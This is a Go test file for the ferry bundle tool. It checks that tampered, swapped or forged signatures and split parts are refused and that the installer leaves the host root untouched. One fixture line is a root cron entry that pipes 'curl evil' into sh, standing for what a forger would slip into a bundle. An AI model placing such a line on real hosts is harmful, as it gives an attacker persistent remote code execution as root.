package bundle_test

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"io"
	"math/rand/v2"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"github.com/ferry-k3s/ferry/bundle"
	"github.com/ferry-k3s/ferry/signing"
)

var (
	binMu sync.Mutex
	bins  = map[string]string{}
)

// binary builds ./cmd/NAME once per test process and returns its path.
func binary(t *testing.T, name string) string {
	t.Helper()
	binMu.Lock()
	defer binMu.Unlock()
	if p, ok := bins[name]; ok {
		return p
	}
	dir, err := os.MkdirTemp("", "ferry-bin-")
	if err != nil {
		t.Fatal(err)
	}
	p := filepath.Join(dir, name)
	cmd := exec.Command("go", "build", "-o", p, "./cmd/"+name)
	cmd.Dir, cmd.Env = repoRoot(t), append(os.Environ(), "CGO_ENABLED=0")
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("build %s: %v\n%s", name, err, out)
	}
	bins[name] = p
	return p
}

func TestMain(m *testing.M) {
	code := m.Run()
	for _, p := range bins {
		os.RemoveAll(filepath.Dir(p))
	}
	os.Exit(code)
}

// installable returns a bundle ferry-install server accepts on this host:
// a k3s stand-in, an SBOM and noise bytes as the image archive (so that a
// split makes several full parts).
func installable(version string, noise int, seed uint64) (bundle.Manifest, []bundle.Source) {
	arch := runtime.GOARCH
	rng := rand.New(rand.NewPCG(seed, 7))
	img := make([]byte, noise)
	for i := range img {
		img[i] = byte(rng.Uint32())
	}
	m := bundle.Manifest{Name: "factory-edge", Version: version, K3sVersion: "v1.31.4+k3s1", Arches: []string{arch},
		Created: time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC)}
	return m, []bundle.Source{
		memSource("images/"+arch+"/ferry-images.tar", bundle.RoleImages, img),
		memSource("k3s/"+arch+"/k3s", bundle.RoleK3sBinary, []byte("#!/bin/sh\necho k3s stand-in\n")),
		memSource("sbom.spdx.json", bundle.RoleSBOM, []byte("{}")),
	}
}

func writeTo(t *testing.T, path string, m bundle.Manifest, srcs []bundle.Source, s signing.Signer, opts ...bundle.WriteOption) {
	t.Helper()
	if _, err := bundle.WriteFile(context.Background(), path, m, srcs, append(opts, bundle.WithSigner(s))...); err != nil {
		t.Fatal(err)
	}
}

func copyFile(t *testing.T, src, dst string) {
	t.Helper()
	b, err := os.ReadFile(src)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(dst, b, 0o644); err != nil {
		t.Fatal(err)
	}
}

// TestOneTrustRule runs both binaries on bundles whose side files were
// tampered with: ferry verify, ferry inspect, ferry-install verify,
// ferry-install inspect and ferry-install server must all decide the same,
// with exit code 3 and the file named, and server must leave the root
// exactly as it was.
func TestOneTrustRule(t *testing.T) {
	if testing.Short() {
		t.Skip("builds ferry and ferry-install and runs them per case; skipped under -short")
	}
	ferry, installer := binary(t, "ferry"), binary(t, "ferry-install")
	s, _ := testKey(t)
	pub := filepath.Join(repoRoot(t), "testdata", "keys", "cosign.pub")
	const noise = 3<<20 + 1000 // four parts of 1 MiB
	// writeSplit writes a split bundle of four 1 MiB parts at path.
	writeSplit := func(t *testing.T, path string, seed uint64) string {
		m, srcs := installable("1.4.0", noise, seed)
		writeTo(t, path, m, srcs, s, bundle.WithSplit(bundle.MinPartSize))
		return path
	}

	cases := []struct {
		name  string
		setup func(t *testing.T, dir string) string // returns the path to pass
		want  string                                // in stderr; "" for a sound bundle
	}{
		{"sound", func(t *testing.T, dir string) string {
			m, srcs := installable("1.4.0", 1000, 1)
			writeTo(t, filepath.Join(dir, "b.ferry"), m, srcs, s)
			return filepath.Join(dir, "b.ferry")
		}, ""},
		{"sound split", func(t *testing.T, dir string) string {
			writeSplit(t, filepath.Join(dir, "b.ferry"), 1)
			return bundle.PartPath(filepath.Join(dir, "b.ferry"), 1)
		}, ""},
		{"another bundle's .sig beside it", func(t *testing.T, dir string) string {
			m, srcs := installable("1.4.0", 1000, 1)
			writeTo(t, filepath.Join(dir, "b.ferry"), m, srcs, s)
			m2, srcs2 := installable("1.4.1", 1000, 2)
			writeTo(t, filepath.Join(dir, "other.ferry"), m2, srcs2, s)
			copyFile(t, filepath.Join(dir, "other.ferry.sig"), filepath.Join(dir, "b.ferry.sig"))
			return filepath.Join(dir, "b.ferry")
		}, "b.ferry.sig: signature does not verify"},
		{"another bundle's .sha256 beside it", func(t *testing.T, dir string) string {
			m, srcs := installable("1.4.0", 1000, 1)
			writeTo(t, filepath.Join(dir, "b.ferry"), m, srcs, s)
			m2, srcs2 := installable("1.4.1", 1000, 2)
			writeTo(t, filepath.Join(dir, "other.ferry"), m2, srcs2, s)
			copyFile(t, filepath.Join(dir, "other.ferry.sha256"), filepath.Join(dir, "b.ferry.sha256"))
			return filepath.Join(dir, "b.ferry")
		}, "b.ferry.sha256: says sha256"},
		{"a 512 MiB .sig", func(t *testing.T, dir string) string {
			m, srcs := installable("1.4.0", 1000, 1)
			writeTo(t, filepath.Join(dir, "b.ferry"), m, srcs, s)
			if err := os.Truncate(filepath.Join(dir, "b.ferry.sig"), 512<<20); err != nil {
				t.Fatal(err)
			}
			return filepath.Join(dir, "b.ferry")
		}, "file is larger than expected"},
		{"a FIFO as .sig", func(t *testing.T, dir string) string {
			m, srcs := installable("1.4.0", 1000, 1)
			writeTo(t, filepath.Join(dir, "b.ferry"), m, srcs, s)
			os.Remove(filepath.Join(dir, "b.ferry.sig"))
			if err := syscall.Mkfifo(filepath.Join(dir, "b.ferry.sig"), 0o644); err != nil {
				t.Fatal(err)
			}
			return filepath.Join(dir, "b.ferry")
		}, "not a regular file"},
		{"split: index signature missing", func(t *testing.T, dir string) string {
			writeSplit(t, filepath.Join(dir, "b.ferry"), 1)
			os.Remove(filepath.Join(dir, "b.ferry.parts.json.sig"))
			return bundle.PartPath(filepath.Join(dir, "b.ferry"), 1)
		}, "b.ferry.parts.json.sig: missing"},
		{"split: parts 2 and 3 swapped", func(t *testing.T, dir string) string {
			b := writeSplit(t, filepath.Join(dir, "b.ferry"), 1)
			os.Rename(bundle.PartPath(b, 2), filepath.Join(dir, "tmp"))
			os.Rename(bundle.PartPath(b, 3), bundle.PartPath(b, 2))
			os.Rename(filepath.Join(dir, "tmp"), bundle.PartPath(b, 3))
			return bundle.PartPath(b, 1)
		}, "part 2 (b.ferry.part002): holds part 3's bytes"},
		{"split: part 2 from another bundle", func(t *testing.T, dir string) string {
			b := writeSplit(t, filepath.Join(dir, "b.ferry"), 1)
			writeSplit(t, filepath.Join(dir, "o.ferry"), 9)
			copyFile(t, bundle.PartPath(filepath.Join(dir, "o.ferry"), 2), bundle.PartPath(b, 2))
			return bundle.PartPath(b, 1)
		}, "part 2 (b.ferry.part002): sha256 does not match the signed index"},
		{"split: a part beyond the index", func(t *testing.T, dir string) string {
			b := writeSplit(t, filepath.Join(dir, "b.ferry"), 1)
			copyFile(t, bundle.PartPath(b, 1), bundle.PartPath(b, 5))
			return bundle.PartPath(b, 1)
		}, "part 5 (b.ferry.part005): is not in the signed index"},
		{"split: another part's .sig", func(t *testing.T, dir string) string {
			b := writeSplit(t, filepath.Join(dir, "b.ferry"), 1)
			copyFile(t, bundle.PartPath(b, 1)+".sig", bundle.PartPath(b, 2)+".sig")
			return bundle.PartPath(b, 1)
		}, "b.ferry.part002.sig: signature does not verify"},
		{"split: index edited", func(t *testing.T, dir string) string {
			b := writeSplit(t, filepath.Join(dir, "b.ferry"), 1)
			idx, _ := os.ReadFile(b + ".parts.json")
			os.WriteFile(b+".parts.json", bytes.Replace(idx, []byte(`"format"`), []byte(` "format"`), 1), 0o644)
			return bundle.PartPath(b, 1)
		}, "b.ferry.parts.json.sig: signature does not verify"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			path := c.setup(t, t.TempDir())
			wantCode := 3
			if c.want == "" {
				wantCode = 0
			}
			runs := map[string][]string{
				"ferry verify":          {ferry, "verify", "--key", pub, path},
				"ferry inspect":         {ferry, "inspect", "--key", pub, path},
				"ferry-install verify":  {installer, "verify", "--key", pub, "--bundle", path},
				"ferry-install inspect": {installer, "inspect", "--key", pub, "--bundle", path},
			}
			for name, args := range runs {
				code, stderr := runExit(t, args[0], args[1:]...)
				if code != wantCode || !strings.Contains(stderr, c.want) {
					t.Errorf("%s: exit %d, want %d; stderr %q, want %q", name, code, wantCode, stderr, c.want)
				}
			}
			root := t.TempDir()
			os.MkdirAll(filepath.Join(root, "etc"), 0o755)
			os.WriteFile(filepath.Join(root, "etc", "hostname"), []byte("edge-1\n"), 0o644)
			before := tree(t, root)
			code, stderr := runExit(t, installer, "server", "--root", root, "--no-start", "--skip-preflight", "--token", "t", "--bundle", path, "--key", pub)
			if code != wantCode || !strings.Contains(stderr, c.want) {
				t.Errorf("ferry-install server: exit %d, want %d; stderr %q, want %q", code, wantCode, stderr, c.want)
			}
			if wantCode != 0 {
				if after := tree(t, root); after != before {
					t.Errorf("server changed the root:\nbefore:\n%s\nafter:\n%s", before, after)
				}
			}
		})
	}
}

// TestCopiedSignatureRefused is the Ed25519 forgery as an attacker would
// try it, for every accepted key type, each key generated here: sign two
// bundles with different manifests, check their bundle.json.sig differ,
// then put the first's signature on the second. ferry verify, ferry-install
// verify and ferry-install server must refuse it with exit 3, the root
// unchanged.
func TestCopiedSignatureRefused(t *testing.T) {
	if testing.Short() {
		t.Skip("builds ferry and ferry-install; skipped under -short")
	}
	ferry, installer := binary(t, "ferry"), binary(t, "ferry-install")
	for _, kt := range []signing.KeyType{"ecdsa-p256", "ecdsa-p384", "ecdsa-p521", "rsa-2048", "rsa-3072", "ed25519"} {
		t.Run(string(kt), func(t *testing.T) {
			dir := t.TempDir()
			prefix := filepath.Join(dir, "k")
			if _, _, err := signing.WriteKeyPair(prefix, kt, signing.StaticPass([]byte("pw"))); err != nil {
				t.Fatal(err)
			}
			s, err := signing.LoadSigner(prefix+".key", signing.StaticPass([]byte("pw")))
			if err != nil {
				t.Fatal(err)
			}
			v, _ := signing.LoadVerifier(prefix + ".pub")
			m1, srcs1 := installable("1.4.0", 1000, 1)
			m2, srcs2 := installable("1.4.0", 1000, 1)
			m2.Entries = nil
			// The second manifest adds a file for the host: what a forger wants.
			cron := []byte("* * * * * root curl evil | sh\n")
			sum := sha256.Sum256(cron)
			extra := bundle.Source{Entry: bundle.Entry{Path: "files/cron", Size: int64(len(cron)), SHA256: hex.EncodeToString(sum[:]), Role: bundle.RoleFile, HostPath: "/etc/cron.d/x", Mode: 0o644},
				Open: func() (io.ReadCloser, error) { return io.NopCloser(bytes.NewReader(cron)), nil }}
			srcs2 = append([]bundle.Source{extra}, srcs2...)
			var a, b bytes.Buffer
			ra, err := bundle.Write(context.Background(), &a, m1, srcs1, bundle.WithSigner(s))
			if err != nil {
				t.Fatal(err)
			}
			rb, err := bundle.Write(context.Background(), &b, m2, srcs2, bundle.WithSigner(s))
			if err != nil {
				t.Fatal(err)
			}
			if bytes.Equal(ra.Signature, rb.Signature) {
				t.Fatal("two different manifests got the same signature")
			}
			if _, err := readAll(b.Bytes(), bundle.WithVerifier(v)); err != nil {
				t.Fatalf("the sound second bundle: %v", err)
			}
			entries := untar(t, b.Bytes())
			entries[1].body = signing.EncodeSignature(ra.Signature)
			entries[1].hdr.Size = int64(len(entries[1].body))
			forged := filepath.Join(dir, "forged.ferry")
			if err := os.WriteFile(forged, retar(t, entries, nil), 0o644); err != nil {
				t.Fatal(err)
			}
			for _, args := range [][]string{
				{ferry, "verify", "--key", prefix + ".pub", forged},
				{installer, "verify", "--key", prefix + ".pub", "--bundle", forged},
			} {
				if code, stderr := runExit(t, args[0], args[1:]...); code != 3 || !strings.Contains(stderr, "does not verify") {
					t.Errorf("%s verify of a copied signature: exit %d, %s", filepath.Base(args[0]), code, stderr)
				}
			}
			root := t.TempDir()
			os.MkdirAll(filepath.Join(root, "etc"), 0o755)
			os.WriteFile(filepath.Join(root, "etc", "hostname"), []byte("edge-1\n"), 0o644)
			before := tree(t, root)
			code, stderr := runExit(t, installer, "server", "--root", root, "--no-start", "--skip-preflight", "--token", "t", "--bundle", forged, "--key", prefix+".pub")
			if code != 3 {
				t.Errorf("server with a copied signature: exit %d, %s", code, stderr)
			}
			if after := tree(t, root); after != before {
				t.Errorf("server changed the root:\nbefore:\n%s\nafter:\n%s", before, after)
			}
		})
	}
}
